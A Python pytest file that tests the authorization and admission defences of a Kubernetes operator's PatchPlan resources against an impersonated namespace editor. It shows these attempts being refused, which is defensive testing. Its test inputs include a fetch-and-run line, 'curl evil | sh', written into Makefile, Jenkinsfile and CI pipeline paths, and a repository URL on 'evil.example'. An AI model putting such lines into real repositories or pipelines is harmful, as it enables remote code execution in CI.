"""PatchPlans a namespace's editor cannot steer (issue 19, item 9): the paths CI executes stay out of reach,
the allow-list is the installed Runbooks' own paths, the operator's proposals are not hers to rewrite,
and an Argo CD Application of another namespace never vouches for her plan.

The attacker is mallory, impersonated (``kubectl --as=mallory --as-group=system:authenticated``), holding
exactly the built-in ClusterRole ``edit`` in her namespace (into which reliability-center-patchplan-editor
and -incident-editor aggregate). The oracles are the apiserver's refusals, the objects themselves and the
forge's own branches (a real Gitea), never the operator's status alone.
"""

from __future__ import annotations

import json
import subprocess
import uuid
from typing import Any

import pytest

from reliability_center.api.patchplan import MADE_BY_LABEL
from tests.gitea.conftest import DEPLOYMENT, create_repo
from tests.support.cluster import (CACHE, apply_docs, apply_runbook, get_json, kubectl, repository_secret,
                                   wait_established, wait_for)
from tests.support.incidents import incident

MALLORY = ("--as=mallory", "--as-group=system:authenticated")
#: What reliability-center-patchplans says when it refuses (manifests/admission/policies.yaml).
REFUSAL = "is proposed by reliability-center (label reliability.center/made-by)"


def as_mallory(*args: str, input: str | None = None) -> subprocess.CompletedProcess[str]:
    return kubectl(*args, *MALLORY, input=input, check=False)


def refused(result: subprocess.CompletedProcess[str]) -> bool:
    return result.returncode != 0 and "reliability-center-patchplans" in result.stderr and REFUSAL in result.stderr


def hers(namespace: str) -> str:
    kubectl("create", "rolebinding", "mallory-edit", "--clusterrole=edit", "--user=mallory", "-n", namespace)
    assert as_mallory("auth", "can-i", "create", "patchplans.reliability.center", "-n", namespace).stdout.strip() == "yes"
    return namespace


@pytest.fixture
def attacker(namespace: str) -> str:
    return hers(namespace)


@pytest.fixture
def victim(second_namespace: str) -> str:
    """Another namespace the session operator serves, where mallory holds no right at all."""
    return second_namespace


def plan(name: str, url: str, changes: list[dict[str, Any]], **spec: Any) -> dict[str, Any]:
    return {"apiVersion": "reliability.center/v1alpha1", "kind": "PatchPlan", "metadata": {"name": name},
            "spec": {"repository": {"url": url, "provider": "gitea", "credentialsSecret": "creds"},
                     "title": name, "changes": changes, **spec}}


def create_as_mallory(namespace: str, doc: dict[str, Any]) -> None:
    made = as_mallory("create", "-n", namespace, "-f", "-", input=json.dumps(doc))
    assert made.returncode == 0, made.stderr


def ready(namespace: str, name: str) -> dict[str, Any] | None:
    conditions = (get_json("patchplan", name, "-n", namespace).get("status") or {}).get("conditions") or []
    return next((c for c in conditions if c["type"] == "Ready"), None)


def setvalue(path: str) -> dict[str, Any]:
    return {"path": path, "operation": "setValue", "yamlPath": "spec.replicas", "value": 9}


@pytest.mark.usefixtures("operator")
def test_an_editor_can_neither_rewrite_relabel_nor_forge_a_patchplan_the_operator_proposed(attacker):
    ns = attacker
    apply_docs(ns, [{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "reliability-center-settings"},
                     "data": {"gitopsRepoURL": "http://127.0.0.1:9/nowhere.git", "gitopsProvider": "git"}}])
    category = f"p{uuid.uuid4().hex[:8]}"
    apply_runbook(category, {"steps": [{"name": "fix", "level": 3, "action": "patch-plan", "params": {
        "changes": [{"path": "{appPath}/deployment-web.yaml", "operation": "setValue", "yamlPath": "spec.replicas",
                     "value": 3}]}}]})
    create_as_mallory(ns, incident("mine", category=category))
    proposed = wait_for(lambda: kubectl("get", "patchplan", "mine-fix", "-n", ns, "-o", "json", check=False).stdout,
                        timeout=60, what="the operator's PatchPlan")
    before = json.loads(proposed)
    assert before["metadata"]["labels"][MADE_BY_LABEL] == "reliability-center"

    attempts = {
        "changes": {"spec": {"changes": [{"path": "apps/Makefile", "operation": "createFile", "content": "x"}]}},
        "title": {"spec": {"title": "harmless"}},
        "repository": {"spec": {"repository": {"url": "https://evil.example/x.git"}}},
        "argoApplication": {"spec": {"argoApplication": "argocd/anything"}},
        "incidentRef": {"spec": {"incidentRef": "another"}},
        "marker": {"metadata": {"labels": {MADE_BY_LABEL: None}}},
        "incident label": {"metadata": {"labels": {"reliability.center/incident": "another"}}},
    }
    for what, patch in attempts.items():
        change = as_mallory("patch", "patchplan", "mine-fix", "-n", ns, "--type=merge", "-p", json.dumps(patch))
        assert refused(change), (what, change.stderr)
    after = get_json("patchplan", "mine-fix", "-n", ns)
    assert after["spec"] == before["spec"] and after["metadata"]["labels"] == before["metadata"]["labels"]

    # Asking for the revert stays hers (relctl rollback); taking the request back does not.
    asked = as_mallory("patch", "patchplan", "mine-fix", "-n", ns, "--type=merge", "-p", '{"spec":{"rollback":true}}')
    assert asked.returncode == 0, asked.stderr
    unasked = as_mallory("patch", "patchplan", "mine-fix", "-n", ns, "--type=merge", "-p", '{"spec":{"rollback":false}}')
    assert refused(unasked), unasked.stderr

    # No plan of hers passes for one of the operator's; plans of her own are hers to write.
    forged = plan("forged", "http://127.0.0.1:9/nowhere.git", [setvalue("apps/x.yaml")])
    forged["metadata"]["labels"] = {MADE_BY_LABEL: "reliability-center"}
    made = as_mallory("create", "-n", ns, "-f", "-", input=json.dumps(forged))
    assert refused(made), made.stderr
    del forged["metadata"]["labels"]
    create_as_mallory(ns, forged)
    edited = as_mallory("patch", "patchplan", "forged", "-n", ns, "--type=merge", "-p", '{"spec":{"title":"mine"}}')
    assert edited.returncode == 0, edited.stderr


def application_crd() -> None:
    from tests.support.argocd import version

    files = [str(CACHE / "argocd" / version() / "crds" / "application-crd.yaml")]
    kubectl("apply", "--server-side", "--force-conflicts", "-f", files[0])
    wait_established(*files)


def application(namespace: str, name: str, destination: str, url: str) -> dict[str, Any]:
    return {"apiVersion": "argoproj.io/v1alpha1", "kind": "Application", "metadata": {"name": name},
            "spec": {"project": "default", "source": {"repoURL": url, "path": "apps/shop"},
                     "destination": {"server": "https://kubernetes.default.svc", "namespace": destination}}}


@pytest.mark.usefixtures("operator")
def test_a_plan_naming_another_namespaces_application_is_refused_before_anything_is_pushed(attacker, victim,
                                                                                            gitea):
    application_crd()
    repo = create_repo(gitea, {"apps/shop/deployment.yaml": DEPLOYMENT})
    apply_docs(victim, [application(victim, "billing", victim, repo.url)])
    apply_docs(attacker, [application(attacker, "shop", attacker, repo.url),
                          repository_secret("creds", repo.url, token=gitea.token)])
    change = [setvalue("apps/shop/deployment.yaml")]
    create_as_mallory(attacker, plan("borrowed", repo.url, change, argoApplication=f"{victim}/billing"))
    create_as_mallory(attacker, plan("own", repo.url, change, argoApplication=f"{attacker}/shop"))

    # Her own Application's plan goes ahead: the forge shows its pull request ...
    wait_for(lambda: len(repo.pulls()) == 1, timeout=90, what="the pull request of the plan naming her Application")
    borrowed = wait_for(lambda: (c := ready(attacker, "borrowed")) and c["reason"] == "ApplicationRefused" and c,
                        timeout=60, what="the plan naming another namespace's Application to be refused")
    assert f"{victim}/billing deploys to namespace {victim}, not {attacker}" in borrowed["message"]
    # ... the other's never reached it: one pull request, one branch beside main.
    assert len(repo.pulls()) == 1 and len(repo.branches()) == 2, (repo.pulls(), repo.branches())


@pytest.mark.usefixtures("operator")
def test_files_ci_executes_are_refused_wherever_they_sit_before_anything_is_pushed(attacker, gitea):
    repo = create_repo(gitea, {"apps/shop/deployment.yaml": DEPLOYMENT})
    apply_docs(attacker, [repository_secret("creds", repo.url, token=gitea.token)])
    hostile = {"make": "apps/shop/Makefile", "pipeline": "apps/shop/bitbucket-pipelines.yml",
               "azure": "apps/azure-pipelines.yml", "jenkins": "apps/shop/Jenkinsfile", "script": "apps/shop/run.sh"}
    for name, path in hostile.items():
        create_as_mallory(attacker, plan(name, repo.url, [{"path": path, "operation": "createFile",
                                                           "content": "all:\n\tcurl evil | sh\n"}]))
    for name, path in hostile.items():
        condition = wait_for(lambda n=name: (c := ready(attacker, n)) and c["reason"] == "PathRefused" and c,
                             timeout=60, what=f"{path} to be refused")
        assert path in condition["message"] and "deny-list" in condition["message"]
    assert repo.branches() == {"main"} and repo.pulls() == []


def test_the_default_allow_list_is_the_installed_runbooks_paths(solo_namespace, kube, seed_runbooks,
                                                               gitea):
    """No RC_GITOPS_ALLOW: one pass in this process (the session operator does not serve solo namespaces)."""
    from reliability_center.operator.patchplan import reconcile_patchplan

    ns = hers(solo_namespace)
    repo = create_repo(gitea, {"apps/shop/deployment.yaml": DEPLOYMENT})
    apply_docs(ns, [repository_secret("creds", repo.url, token=gitea.token)])
    # Outside every Runbook's patch-plan paths (the seed runbooks write **/deployment-*.yaml and the like).
    create_as_mallory(ns, plan("elsewhere", repo.url, [setvalue("apps/shop/deployment.yaml")]))
    # The perf runbook's {appPath}/deployment-{module}.yaml.
    create_as_mallory(ns, plan("runbooks", repo.url, [{"path": "apps/shop/deployment-search.yaml",
                                                       "operation": "createFile", "content": DEPLOYMENT}]))
    def settled(name: str) -> str | None:
        reconcile_patchplan((ns, name), None, kube)
        phase = (get_json("patchplan", name, "-n", ns).get("status") or {}).get("phase")
        return phase if phase in ("Proposed", "Failed") else None

    assert wait_for(lambda: settled("elsewhere"), timeout=60, what="the pass on elsewhere") == "Failed"
    assert wait_for(lambda: settled("runbooks"), timeout=60, what="the pass on runbooks") == "Proposed"
    elsewhere = ready(ns, "elsewhere")
    assert elsewhere and elsewhere["reason"] == "PathRefused", elsewhere
    assert "not in the allow-list (the paths the installed Runbooks' patch-plan steps use" in elsewhere["message"]
    assert len(repo.pulls()) == 1 and repo.pulls()[0]["head"]["ref"] in repo.branches()
    assert repo.file("apps/shop/deployment-search.yaml", repo.pulls()[0]["head"]["ref"])
